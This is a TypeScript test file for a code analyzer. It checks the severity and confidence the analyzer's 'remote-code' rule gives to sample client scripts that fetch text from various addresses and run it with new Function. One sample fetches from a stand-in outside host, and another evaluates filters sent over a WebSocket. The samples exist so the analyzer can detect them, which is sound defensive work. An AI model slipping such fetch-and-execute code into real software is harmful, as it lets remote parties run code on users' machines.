import { expect, test } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';

/** Code that a repository's page runs as its own server tells it, and what comes from somebody else. */

const AT = (address: string): string => `fetch(${address}).then((r) => r.text()).then((t) => { new Function(t)(); });`;
const SOCKET = (address: string): string =>
  `const s = new WebSocket(${address}); s.onmessage = (e) => { const { filter } = JSON.parse(e.data); new Function('m', 'return ' + filter)(); };`;

test.each([
  [SOCKET('location.origin.replace("http", "ws")'), 'high', 'medium'],
  [AT('location.pathname + "/filters"'), 'high', 'medium'],
  [AT('base + "/filters"'), 'critical', 'high'],
  [AT('atob(process.env.API_KEY)'), 'critical', 'high'],
  [AT('"https://cdn.stranger.example/filters"'), 'critical', 'high'],
])('%s', async (script, severity, confidence) => {
  const { findings } = await analyze(memoryTree({ 'client/index.js': script }), { kind: 'repository' });
  expect(findings.find(({ rule }) => rule === 'remote-code')).toMatchObject({ severity, confidence });
});
